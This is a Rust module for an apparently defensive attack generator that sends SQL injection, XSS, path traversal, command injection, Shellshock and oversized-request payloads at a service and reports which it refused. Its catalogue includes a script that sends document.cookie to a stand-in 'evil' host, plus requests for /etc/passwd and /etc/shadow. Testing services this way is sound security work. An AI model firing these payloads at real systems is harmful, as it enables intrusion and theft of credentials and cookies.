//! The attack generator: a catalogue of malicious request payloads sent at a service, and a
//! report of which it refused and which it accepted.
//!
//! Classes: SQL injection, cross-site scripting, path traversal, command injection, oversized
//! headers and oversized bodies. A payload counts as *rejected* when the service answers 400,
//! 403, 413, 414 or 431, *accepted* on any other answer, and *unanswered* when the request
//! fails (the service is down, hung or unreachable): an unanswered attack proves nothing.

use std::collections::BTreeMap;
use std::fmt;

use serde::{Deserialize, Serialize};

/// How a payload travels.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Carrier {
    /// Appended to the path as a query string, already percent-encoded.
    Query(String),
    /// A request header.
    Header(&'static str, String),
    /// A POST body.
    Body(Vec<u8>),
}

/// One malicious request of the catalogue.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Payload {
    pub class: &'static str,
    pub name: &'static str,
    pub carrier: Carrier,
}

fn query(class: &'static str, name: &'static str, q: &str) -> Payload {
    Payload {
        class,
        name,
        carrier: Carrier::Query(q.to_string()),
    }
}

/// Every payload the generator sends, in order.
pub fn catalogue() -> Vec<Payload> {
    vec![
        query(
            "sql_injection",
            "tautology",
            "id=1%27%20OR%20%271%27%3D%271",
        ),
        query(
            "sql_injection",
            "union_select",
            "q=1%20UNION%20SELECT%20username%2Cpassword%20FROM%20users",
        ),
        query(
            "sql_injection",
            "stacked_drop",
            "id=1%3B%20DROP%20TABLE%20users--",
        ),
        query("xss", "script_tag", "q=%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
        query(
            "xss",
            "img_onerror",
            "q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
        ),
        Payload {
            class: "xss",
            name: "body_script",
            carrier: Carrier::Body(
                b"comment=<script>fetch('//evil/'+document.cookie)</script>".to_vec(),
            ),
        },
        query(
            "path_traversal",
            "dot_dot_slash",
            "file=..%2F..%2F..%2Fetc%2Fpasswd",
        ),
        query(
            "path_traversal",
            "double_encoded",
            "file=%252e%252e%252f%252e%252e%252fetc%252fshadow",
        ),
        query(
            "command_injection",
            "semicolon_cat",
            "host=127.0.0.1%3B%20cat%20%2Fetc%2Fpasswd",
        ),
        query("command_injection", "subshell", "name=%24(id)"),
        Payload {
            class: "command_injection",
            name: "shellshock_user_agent",
            carrier: Carrier::Header("user-agent", "() { :; }; /bin/bash -c id".into()),
        },
        Payload {
            class: "oversized_headers",
            name: "16k_header",
            carrier: Carrier::Header("x-padding", "a".repeat(16 * 1024)),
        },
        Payload {
            class: "oversized_body",
            name: "96k_body",
            carrier: Carrier::Body(vec![b'a'; 96 * 1024]),
        },
    ]
}

/// What became of one payload.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Verdict {
    Rejected,
    Accepted,
    Unanswered,
}

/// How a status answers an attack. Pure.
pub fn verdict(status: Option<u16>) -> Verdict {
    match status {
        Some(400 | 403 | 413 | 414 | 431) => Verdict::Rejected,
        Some(_) => Verdict::Accepted,
        None => Verdict::Unanswered,
    }
}

/// Counts per payload class.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct Tally {
    pub rejected: u64,
    pub accepted: u64,
    pub unanswered: u64,
}

/// Rejected, accepted and unanswered payloads by class.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct AttackReport {
    pub by_class: BTreeMap<String, Tally>,
    /// The names of the payloads the service accepted: the holes to fix.
    pub accepted: Vec<String>,
}

impl AttackReport {
    pub fn record(&mut self, payload: &Payload, verdict: Verdict) {
        let tally = self.by_class.entry(payload.class.to_string()).or_default();
        match verdict {
            Verdict::Rejected => tally.rejected += 1,
            Verdict::Accepted => {
                tally.accepted += 1;
                let name = format!("{}/{}", payload.class, payload.name);
                if !self.accepted.contains(&name) {
                    self.accepted.push(name);
                }
            }
            Verdict::Unanswered => tally.unanswered += 1,
        }
    }

    pub fn total(&self) -> Tally {
        self.by_class.values().fold(Tally::default(), |a, t| Tally {
            rejected: a.rejected + t.rejected,
            accepted: a.accepted + t.accepted,
            unanswered: a.unanswered + t.unanswered,
        })
    }
}

impl fmt::Display for AttackReport {
    /// One line: totals, then `class rejected/accepted/unanswered` per class.
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let t = self.total();
        write!(
            f,
            "attack: {} rejected, {} accepted, {} unanswered;",
            t.rejected, t.accepted, t.unanswered
        )?;
        for (class, t) in &self.by_class {
            write!(f, " {class} {}/{}/{}", t.rejected, t.accepted, t.unanswered)?;
        }
        if !self.accepted.is_empty() {
            write!(f, "; accepted: {}", self.accepted.join(", "))?;
        }
        Ok(())
    }
}

/// Sends one payload at `url` (a base URL with path, no query) and says what became of it.
pub async fn send(client: &reqwest::Client, url: &str, payload: &Payload) -> Verdict {
    let request = match &payload.carrier {
        Carrier::Query(q) => client.get(format!("{url}?{q}")),
        Carrier::Header(name, value) => client.get(url).header(*name, value.as_str()),
        Carrier::Body(body) => client
            .post(url)
            .header("content-type", "application/x-www-form-urlencoded")
            .body(body.clone()),
    };
    verdict(request.send().await.ok().map(|r| r.status().as_u16()))
}

/// Sends the whole catalogue once and adds the outcomes to `report`.
pub async fn round(client: &reqwest::Client, url: &str, report: &mut AttackReport) {
    for payload in catalogue() {
        let verdict = send(client, url, &payload).await;
        report.record(&payload, verdict);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_catalogue_covers_every_class() {
        let classes: std::collections::BTreeSet<_> = catalogue().iter().map(|p| p.class).collect();
        assert_eq!(
            classes.into_iter().collect::<Vec<_>>(),
            [
                "command_injection",
                "oversized_body",
                "oversized_headers",
                "path_traversal",
                "sql_injection",
                "xss"
            ]
        );
    }

    #[test]
    fn refusals_accepts_and_silence_are_told_apart() {
        assert_eq!(verdict(Some(400)), Verdict::Rejected);
        assert_eq!(verdict(Some(413)), Verdict::Rejected);
        assert_eq!(verdict(Some(431)), Verdict::Rejected);
        assert_eq!(verdict(Some(200)), Verdict::Accepted);
        assert_eq!(verdict(Some(500)), Verdict::Accepted);
        assert_eq!(verdict(None), Verdict::Unanswered);
    }

    #[test]
    fn the_report_counts_by_class_and_names_the_holes() {
        let all = catalogue();
        let mut report = AttackReport::default();
        report.record(&all[0], Verdict::Rejected);
        report.record(&all[3], Verdict::Accepted);
        report.record(&all[3], Verdict::Accepted);
        report.record(&all[12], Verdict::Unanswered);
        assert_eq!(report.by_class["sql_injection"].rejected, 1);
        assert_eq!(report.by_class["xss"].accepted, 2);
        assert_eq!(report.accepted, ["xss/script_tag"]);
        assert_eq!(
            report.total(),
            Tally {
                rejected: 1,
                accepted: 2,
                unanswered: 1
            }
        );
        let line = report.to_string();
        assert!(
            line.starts_with("attack: 1 rejected, 2 accepted, 1 unanswered;"),
            "{line}"
        );
        assert!(line.contains("xss 0/2/0"), "{line}");
    }
}
